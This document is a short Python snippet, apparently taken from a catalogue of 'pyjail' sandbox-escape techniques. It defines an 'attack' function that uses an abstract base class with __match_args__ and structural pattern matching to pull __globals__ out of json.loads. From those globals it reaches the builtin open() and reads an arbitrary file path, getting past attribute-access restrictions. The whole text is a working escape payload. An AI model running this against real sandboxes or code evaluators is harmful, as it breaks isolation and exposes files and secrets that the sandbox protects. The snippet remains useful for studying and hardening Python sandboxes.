# A positional pattern reads the attributes that its class names.
# after: read
# source: pyjail: match patterns
import json
from abc import ABC
class U(ABC):
    __match_args__ = ("__globals__",)
def attack(path, **_):
    U.register(type(json.loads))
    match json.loads:
        case U(found):
            return {"text": found["__builtins__"]["open"](path).read()}
